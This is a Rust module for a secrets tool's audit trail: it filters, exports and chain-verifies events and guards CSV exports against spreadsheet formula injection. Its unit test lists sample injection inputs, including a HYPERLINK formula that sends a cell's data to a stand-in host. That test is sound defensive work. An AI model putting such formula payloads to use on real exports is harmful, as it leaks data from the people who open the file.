//! The audit trail (DESIGN §5): lifecycle events (in each environment) and access events
//! (in its journal), read, filtered, exported and verified. Reading a chain checks it:
//! a break is an error naming the event (exit 6).

use std::collections::HashMap;
use std::io::{BufWriter, Write};
use std::path::PathBuf;

use serde::Serialize;

use crate::audit::{Action, Chain, ChainReport, Event, Filter, GENESIS};
use crate::error::{Error, Result};
use crate::fsutil::{OutFile, stdout_error};
use crate::names::{When, fmt_time_ms};
use crate::ops::Context;
use crate::ops::envs::{SkippedEnv, open_envs, open_envs_noting, require_coverage};
use crate::vault::EnvDb;
use crate::vault::journal::Journal;

/// The access events of `db`'s environment, unsealed and chain-checked.
pub fn access_events(ctx: &Context, db: &EnvDb) -> Result<Vec<Event>> {
    match Journal::open_existing(&ctx.paths, &db.env)? {
        None => Ok(Vec::new()),
        Some(j) => j.events(&db.audit_keys()?),
    }
}

/// Which events to read: the environment in use or all of them, narrowed by key,
/// action, actor and time (relative times count back from the command's `now`).
#[derive(Clone, Debug, Default)]
pub struct EventQuery {
    pub key: Option<String>,
    /// Recipient (in full, shortened as `audit` shows it, or a prefix of 8 characters
    /// or more), or its label.
    pub actor: Option<String>,
    /// The OS user and host the acting machine reported (exactly; unsigned).
    pub os_user: Option<String>,
    pub host: Option<String>,
    pub action: Option<Action>,
    pub since: Option<When>,
    pub until: Option<When>,
    pub all_envs: bool,
}

impl EventQuery {
    /// DESIGN §16: a filtered look at access events ("what did Bob read?") says what it
    /// cannot see: reads are journaled on the machine that made them.
    pub fn scope_note(&self, ctx: &Context) -> Option<String> {
        let filtered = self.key.is_some()
            || self.actor.is_some()
            || self.os_user.is_some()
            || self.host.is_some()
            || self.action.is_some()
            || self.since.is_some()
            || self.until.is_some();
        if !filtered || self.action.is_some_and(|a| !a.is_access()) {
            return None;
        }
        let env = if self.all_envs {
            "--all-envs".to_owned()
        } else {
            format!("-e {}", ctx.env)
        };
        let whom = self.actor.as_deref().unwrap_or("someone");
        Some(format!(
            "access events from this machine's journal only; reads on other machines are not here; `keyward check {env}` lists what {whom} could decrypt"
        ))
    }

    fn filter(&self, now: i64) -> Result<Filter> {
        let since = self.since.map(|w| w.before(now));
        let until = self.until.map(|w| w.before(now));
        // A window that ends before it starts holds nothing: an empty answer would
        // read as "nothing happened" (a date typed the wrong way round, a scheduler's
        // clock ahead of this machine's).
        if let (Some(s), Some(u)) = (since, until)
            && s > u
        {
            return Err(Error::usage(format!(
                "--since ({}) is after --until ({}): the window holds no event",
                crate::names::fmt_time(s),
                crate::names::fmt_time(u)
            )));
        }
        Ok(Filter {
            key: self.key.clone(),
            action: self.action,
            since,
            until,
            actor: self.actor.clone(),
            os_user: self.os_user.clone(),
            host: self.host.clone(),
        })
    }

    /// `--actor WHO` selects by recipient or label only. When nothing matched that way
    /// but events report `WHO` as their OS user or host, say how to ask for those (and
    /// that they are the writer's own claim), rather than an empty answer alone.
    fn actor_hint(&self, all: &[Event]) -> Option<String> {
        let who = self.actor.as_deref()?;
        let user = all.iter().any(|e| e.actor.os_user == who);
        let host = all.iter().any(|e| e.actor.host == who);
        let flag = match (user, host) {
            (true, _) => "--os-user",
            (false, true) => "--host",
            (false, false) => return None,
        };
        Some(format!(
            "`--actor {who}` selects by recipient or label, and no member is `{who}`; events whose machine reported `{who}` (as `$USER` or host name, which the writer chooses and no signature binds): `{flag} {who}`"
        ))
    }
}

/// Both chains of every environment asked for, filtered and merged in time order.
fn collect(ctx: &Context, q: &EventQuery) -> Result<Vec<Event>> {
    let filter = q.filter(ctx.now())?;
    let dbs = open_envs_noting(ctx, q.all_envs)?;
    let labels = labels(&dbs)?;
    let mut events = Vec::new();
    let mut hint = None;
    for db in &dbs {
        let mut read = db.lifecycle_events()?;
        annotate_renumbered(&mut read);
        read.extend(access_events(ctx, db)?);
        for e in &mut read {
            label(&labels, e);
        }
        if hint.is_none() && !read.iter().any(|e| filter.matches(e)) {
            hint = q.actor_hint(&read);
        }
        events.extend(read.into_iter().filter(|e| filter.matches(e)));
    }
    if events.is_empty()
        && let Some(h) = hint
    {
        ctx.out.note(&h);
    }
    events.sort_by(|a, b| (a.time, &a.env, a.chain, a.seq).cmp(&(b.time, &b.env, b.chain, b.seq)));
    Ok(events)
}

/// DESIGN §16: so history and values agree, mark each value-issuing event whose version
/// a later merge renumbered. A merge that kept both sides' new values of a key numbers
/// them after BASE's newest, by creation time (`vault::merge::versions`); the events
/// that issued them carry that time and the number their own side gave. Each
/// `merge-conflict` event lists the versions kept: the issuing events of that key
/// before it, not yet placed, with a version among them, taken in time order, get
/// those numbers.
fn annotate_renumbered(events: &mut [Event]) {
    let issues = |a: Action| {
        matches!(
            a,
            Action::Generate | Action::Set | Action::Import | Action::Rotate
        )
    };
    let mut placed = std::collections::HashSet::new();
    for m in 0..events.len() {
        if events[m].action != Action::MergeConflict {
            continue;
        }
        let (Some(key), Some(reason)) = (events[m].key.clone(), events[m].reason.clone()) else {
            continue;
        };
        // "both sides gave it a new value: v2, v3 kept, …"
        let kept: Vec<u32> = reason
            .split_once(": ")
            .and_then(|(_, rest)| rest.split_once(" kept"))
            .map(|(list, _)| {
                list.split(", ")
                    .filter_map(|v| v.strip_prefix('v')?.parse().ok())
                    .collect()
            })
            .unwrap_or_default();
        let Some(&first) = kept.first() else { continue };
        let mut issued: Vec<usize> = (0..m)
            .filter(|&i| {
                let e = &events[i];
                issues(e.action)
                    && e.key.as_deref() == Some(key.as_str())
                    && e.version.is_some_and(|v| v >= first)
                    && !placed.contains(&i)
            })
            .collect();
        if issued.len() != kept.len() {
            continue; // not the shape a merge leaves: nothing said rather than a guess
        }
        issued.sort_by_key(|&i| (events[i].time, events[i].seq));
        for (i, v) in issued.into_iter().zip(kept) {
            placed.insert(i);
            if events[i].version != Some(v) {
                events[i].renumbered = Some(v);
            }
        }
    }
}

/// The labels of the recipients of `dbs` (`access grant --name`), by recipient. A
/// label given in one environment names the recipient in all of them; a removed
/// member's label stays known (DESIGN §16: kept in the signed state), a member's own
/// label first.
pub(crate) fn labels(dbs: &[EnvDb]) -> Result<HashMap<String, String>> {
    let mut out = HashMap::new();
    for db in dbs {
        for r in db.recipients()? {
            if let Some(l) = r.label {
                out.entry(r.recipient).or_insert(l);
            }
        }
    }
    for db in dbs {
        for (r, l) in db.former_labels()? {
            out.entry(r).or_insert(l);
        }
    }
    Ok(out)
}

/// Fill in the labels of `e`'s actor and subject, when known.
fn label(labels: &HashMap<String, String>, e: &mut Event) {
    e.actor_label = labels.get(&e.actor.recipient).cloned();
    e.subject_label = e.subject.as_ref().and_then(|s| labels.get(s)).cloned();
}

/// A recipient as `audit` shows it: `Bob (age1chh…)` with a label, else shortened.
pub(crate) fn who(recipient: &str, label: Option<&str>) -> String {
    crate::recipient::person(recipient, label)
}

/// `audit`: the events (a JSON array), and the key asked about with `--key`, so that
/// the table shows that key of an access to several keys rather than the first few.
pub struct EventLog {
    pub events: Vec<Event>,
    pub key: Option<String>,
}

impl Serialize for EventLog {
    fn serialize<S: serde::Serializer>(&self, s: S) -> std::result::Result<S::Ok, S::Error> {
        self.events.serialize(s)
    }
}

/// The events `q` selects; with `limit`, only the newest `limit`.
pub fn events(ctx: &Context, q: &EventQuery, limit: Option<usize>) -> Result<EventLog> {
    let mut events = collect(ctx, q)?;
    if let Some(note) = q.scope_note(ctx) {
        ctx.out.note(&note);
    }
    if let Some(n) = limit {
        let skip = events.len().saturating_sub(n);
        events.drain(..skip);
    }
    Ok(EventLog {
        events,
        key: q.key.clone(),
    })
}

// ---------------------------------------------------------------- export

#[derive(Debug, Clone, Copy)]
pub enum ExportFormat {
    Json,
    Jsonl,
    Csv,
}

/// `audit export`: the events `query` selects, in `format`, to `out` (created 0600,
/// atomically; an existing file only with `force`) or stdout.
pub struct Export {
    pub query: EventQuery,
    pub format: ExportFormat,
    pub out: Option<PathBuf>,
    pub force: bool,
}

/// Write the events. The format is chosen by `--format`, not `--json`, so this is data
/// on stdout (or in the file), never a rendered report; a file written is noted.
pub fn export(ctx: &Context, req: Export) -> Result<()> {
    let events = collect(ctx, &req.query)?;
    if let Some(note) = req.query.scope_note(ctx) {
        ctx.out.note(&note);
    }
    match &req.out {
        Some(p) => {
            let mut file = OutFile::create(p, req.force)?;
            write_events(&mut file, req.format, &events, &|e| {
                Error::io("cannot write", p.clone(), e)
            })?;
            file.commit()?;
            ctx.out.note(&format!(
                "wrote {} event(s) to `{}`",
                events.len(),
                p.display()
            ));
        }
        None => {
            let mut w = BufWriter::new(std::io::stdout().lock());
            write_events(&mut w, req.format, &events, &stdout_error)?;
        }
    }
    Ok(())
}

const CSV_HEADER: &str = "env,chain,seq,time,action,key,version,actor_recipient,actor_user,actor_host,actor_via,reason,outcome,prev_hash,hash,subject,subject_label,keys";

fn write_events(
    w: &mut dyn Write,
    format: ExportFormat,
    events: &[Event],
    io: &dyn Fn(std::io::Error) -> Error,
) -> Result<()> {
    // Events serialize without fail: a JSON error here is the writer's I/O error.
    let json = |e: serde_json::Error| io(e.into());
    match format {
        ExportFormat::Json => {
            serde_json::to_writer_pretty(&mut *w, events).map_err(json)?;
            w.write_all(b"\n").map_err(io)?;
        }
        ExportFormat::Jsonl => {
            for e in events {
                write_jsonl(&mut *w, e).map_err(json)?;
            }
        }
        ExportFormat::Csv => {
            writeln!(w, "{CSV_HEADER}").map_err(io)?;
            for e in events {
                let fields = [
                    e.env.clone(),
                    e.chain.to_string(),
                    e.seq.to_string(),
                    fmt_time_ms(e.time),
                    e.action.to_string(),
                    e.key.clone().unwrap_or_default(),
                    e.version.map(|v| v.to_string()).unwrap_or_default(),
                    e.actor.recipient.clone(),
                    e.actor.os_user.clone(),
                    e.actor.host.clone(),
                    e.actor.via.to_string(),
                    e.reason.clone().unwrap_or_default(),
                    e.outcome.clone(),
                    hex::encode(e.prev_hash),
                    hex::encode(e.hash),
                    e.subject.clone().unwrap_or_default(),
                    e.subject_label.clone().unwrap_or_default(),
                    // An access for several keys: `[["NAME",version],…]`, as it is hashed.
                    if e.keys.is_empty() {
                        String::new()
                    } else {
                        serde_json::to_string(&e.keys).map_err(json)?
                    },
                ];
                let line: Vec<String> = fields.iter().map(|f| csv_field(f)).collect();
                w.write_all(line.join(",").as_bytes())
                    .and_then(|_| w.write_all(b"\r\n"))
                    .map_err(io)?;
            }
        }
    }
    w.flush().map_err(io)
}

/// One event as a JSON line: the form of `audit export --format jsonl` and of the
/// `KEYWARD_AUDIT_LOG` file.
pub(crate) fn write_jsonl(mut w: impl Write, e: &Event) -> serde_json::Result<()> {
    serde_json::to_writer(&mut w, e)?;
    w.write_all(b"\n").map_err(serde_json::Error::io)
}

/// `KEYWARD_AUDIT_LOG=FILE` (DESIGN §14): every event is also appended to FILE as a
/// JSON line, for machines whose journal is thrown away (CI runners). Created 0600,
/// never through a symbolic link, written with `O_APPEND` (one `write` per batch, so
/// concurrent keyward processes do not interleave lines) and synced before returning.
#[derive(Clone, Debug)]
pub struct AuditLog {
    pub path: PathBuf,
}

impl AuditLog {
    /// The log `KEYWARD_AUDIT_LOG` names; none when it is unset or empty.
    pub fn from_env() -> Option<AuditLog> {
        std::env::var_os("KEYWARD_AUDIT_LOG")
            .filter(|p| !p.is_empty())
            .map(|p| AuditLog { path: p.into() })
    }

    /// Append `events`, durably; the error says why not, for a message.
    pub fn append(&self, events: &[Event]) -> std::result::Result<(), String> {
        self.try_append(events).map_err(|e| {
            if crate::sys::is_symlink_refusal(&e) {
                "it is a symbolic link".to_owned()
            } else if e.raw_os_error() == Some(libc::ENXIO) {
                "it is not a regular file (a pipe nobody reads)".to_owned()
            } else if crate::sys::is_not_regular(&e) && e.raw_os_error().is_none() {
                "it is not a regular file".to_owned()
            } else {
                e.to_string()
            }
        })
    }

    fn try_append(&self, events: &[Event]) -> std::io::Result<()> {
        use std::os::unix::fs::OpenOptionsExt;
        if events.is_empty() {
            return Ok(());
        }
        // An access event is appended while the journal's append waits for it (holding
        // the environment's journal): never wait on a pipe or a device. A regular file
        // only, opened without waiting (a pipe with no reader is ENXIO at once).
        let mut f = std::fs::OpenOptions::new()
            .append(true)
            .create(true)
            .mode(0o600)
            .custom_flags(crate::sys::O_NOFOLLOW | crate::sys::O_NONBLOCK)
            .open(&self.path)
            .and_then(crate::sys::require_regular)?;
        let mut lines = Vec::new();
        for e in events {
            write_jsonl(&mut lines, e)?;
        }
        f.write_all(&lines)?;
        f.sync_data()
    }
}

/// RFC 4180: quote a field holding a comma, quote, CR or LF; double inner quotes.
/// A CSV export is opened in spreadsheets, and much of an event is text its writer
/// chose (a reason, `$USER`, a label): a field a spreadsheet would evaluate as a formula
/// (first character `=`, `+`, `-`, `@`, tab or CR: OWASP's list) gets a leading `'`,
/// which spreadsheets show as text. `json` and `jsonl` stay exact, for recomputing the
/// hashes.
pub fn csv_field(s: &str) -> String {
    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s.to_owned()
    };
    if s.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

// ---------------------------------------------------------------- verify

/// `audit verify`: the environment in use or all; `skip_unreadable` accepts a partial
/// check.
pub struct VerifyChains {
    pub all_envs: bool,
    pub skip_unreadable: bool,
}

/// What `audit verify --json` prints: every chain checked, and every environment that
/// was not (the same `skipped` shape as `list --json`).
#[derive(Serialize)]
pub struct Verified {
    pub chains: Vec<ChainReport>,
    /// DESIGN §15: each environment's signed history, checked from its first signature.
    pub signed: Vec<SignedReport>,
    pub skipped: Vec<SkippedEnv>,
    #[serde(skip)]
    pub(crate) accept_gap: bool,
}

impl Verified {
    /// A check that did not check everything is not a clean pass (exit 5), unless
    /// `--skip-unreadable`.
    pub fn verdict(&self) -> Result<()> {
        require_coverage("audit verify --all-envs", &self.skipped, self.accept_gap)
    }
}

/// Check every chain asked for; a break is an error naming the event (exit 6).
pub fn verify(ctx: &Context, req: VerifyChains) -> Result<Verified> {
    let (mut open, skipped) = open_envs(ctx, req.all_envs)?;
    let mut chains = Vec::new();
    let mut signed = Vec::new();
    for db in &mut open {
        // DESIGN §7 round 2: a read decrypts only the chunks it visits; a verification
        // authenticates the whole file, so a tampered chunk anywhere is exit 6.
        db.authenticate_all()?;
        // Reading each chain checks it.
        let events = db.lifecycle_events()?;
        // Every signature against the roles in force where it was made, and the rows
        // against the state last signed, whatever this machine verified before.
        let pinned = db.pin().cloned();
        let v = db.verify_signed(&events, pinned.as_ref())?;
        signed.push(SignedReport {
            env: db.env.to_string(),
            root: v.history,
            signatures: v.signatures,
        });
        chains.push(chain_report(db, Chain::Lifecycle, &events));
        chains.push(chain_report(db, Chain::Access, &access_events(ctx, db)?));
    }
    // Named on stderr even with -q: what was not checked must not go unnoticed.
    for s in &skipped {
        ctx.out.warn(&if s.gone {
            format!("not checked: {}", s.reason)
        } else {
            format!("not checked `{}`: this identity is not a recipient", s.env)
        });
    }
    Ok(Verified {
        chains,
        signed,
        skipped,
        accept_gap: req.skip_unreadable,
    })
}

/// An environment's signed history as `audit verify` checked it.
#[derive(Serialize)]
pub struct SignedReport {
    pub env: String,
    /// Its trust root (the history's own, as `trust root` prints it); null for a
    /// history not signed yet.
    pub root: Option<String>,
    pub signatures: usize,
}

/// A verified chain's length and head hash (the genesis hash when it is empty).
fn chain_report(db: &EnvDb, chain: Chain, events: &[Event]) -> ChainReport {
    ChainReport {
        env: db.env.to_string(),
        chain,
        events: events.len() as u64,
        head: hex::encode(events.last().map_or(GENESIS, |e| e.hash)),
    }
}

#[cfg(test)]
mod tests {
    use super::csv_field;

    #[test]
    fn csv_quotes_per_rfc4180() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
    }

    #[test]
    fn csv_never_starts_a_field_a_spreadsheet_would_evaluate() {
        assert_eq!(csv_field("=1+1"), "'=1+1");
        assert_eq!(
            csv_field("=HYPERLINK(\"https://x/?\"&A2,\"x\")"),
            "\"'=HYPERLINK(\"\"https://x/?\"\"&A2,\"\"x\"\")\""
        );
        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_field("+cmd"), "'+cmd");
        assert_eq!(csv_field("-2+3"), "'-2+3");
        assert_eq!(csv_field("\tx"), "'\tx");
        assert_eq!(csv_field("\r=x"), "\"'\r=x\"");
        assert_eq!(csv_field("a=b"), "a=b");
    }
}
